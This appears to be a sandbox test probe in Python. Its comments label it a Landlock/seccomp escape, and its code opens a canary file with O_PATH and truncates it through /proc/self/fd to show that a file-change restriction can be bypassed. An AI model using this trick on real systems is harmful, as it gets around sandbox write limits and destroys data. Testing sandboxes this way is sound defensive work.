# class: changing files
# technique: truncate through the link of a descriptor with O_PATH
# layers: landlock, seccomp, identity
# kernel: 6.2, Landlock ABI 3
# code: native
# witness: canary

path = os.open(host["canary"], os.O_PATH)
os.truncate(f"/proc/self/fd/{path}", 0)
return escaped("truncated")
